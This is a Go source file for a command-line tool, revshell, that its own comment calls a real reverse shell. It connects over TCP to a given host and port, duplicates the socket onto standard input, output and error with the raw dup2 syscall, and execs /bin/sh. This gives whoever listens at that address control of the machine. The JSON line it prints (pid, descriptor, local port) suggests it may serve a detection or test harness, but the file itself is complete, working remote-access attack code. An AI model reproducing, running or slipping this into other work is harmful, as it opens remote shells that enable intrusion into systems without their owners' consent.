// Command revshell is a reverse shell, for real: it connects to ADDR over
// TCP, puts the socket on its standard input, output and error with dup2,
// and executes a shell (default /bin/sh), which then reads its commands
// from whoever listens at ADDR.
//
// Usage: revshell HOST:PORT [SHELL]
//
// Before its stdio is replaced it prints one JSON line: its pid, its local
// port and the descriptor of the connected socket.
package main

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

type report struct {
	Pid       int    `json:"pid"`
	Exe       string `json:"exe"`
	Fd        int    `json:"fd"`
	LocalPort int    `json:"local_port"`
	Shell     string `json:"shell"`
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: revshell HOST:PORT [SHELL]")
		os.Exit(2)
	}
	shell := "/bin/sh"
	if len(os.Args) > 2 {
		shell = os.Args[2]
	}
	if err := run(os.Args[1], shell); err != nil {
		fmt.Fprintln(os.Stderr, "revshell:", err)
		os.Exit(1)
	}
}

func run(addr, shell string) error {
	host, p, err := net.SplitHostPort(addr)
	if err != nil {
		return err
	}
	port, err := strconv.Atoi(p)
	if err != nil {
		return err
	}
	ip := net.ParseIP(host).To4()
	if ip == nil {
		return fmt.Errorf("%s: an IPv4 address is expected", host)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	sa := &unix.SockaddrInet4{Port: port}
	copy(sa.Addr[:], ip)
	if err := unix.Connect(fd, sa); err != nil {
		return fmt.Errorf("connecting to %s: %w", addr, err)
	}
	exe, _ := os.Executable()
	r := report{Pid: os.Getpid(), Exe: exe, Fd: fd, Shell: shell}
	if local, err := unix.Getsockname(fd); err == nil {
		r.LocalPort = local.(*unix.SockaddrInet4).Port
	}
	if err := json.NewEncoder(os.Stdout).Encode(r); err != nil {
		return err
	}
	// the dup2 system call itself, as C and Python reverse shells make it
	// (x/sys's Dup2 is dup3 on amd64)
	for _, std := range []int{0, 1, 2} {
		if _, _, errno := unix.Syscall(unix.SYS_DUP2, uintptr(fd), uintptr(std), 0); errno != 0 {
			return fmt.Errorf("dup2 onto %d: %w", std, errno)
		}
	}
	unix.Close(fd)
	return unix.Exec(shell, []string{"sh"}, os.Environ())
}
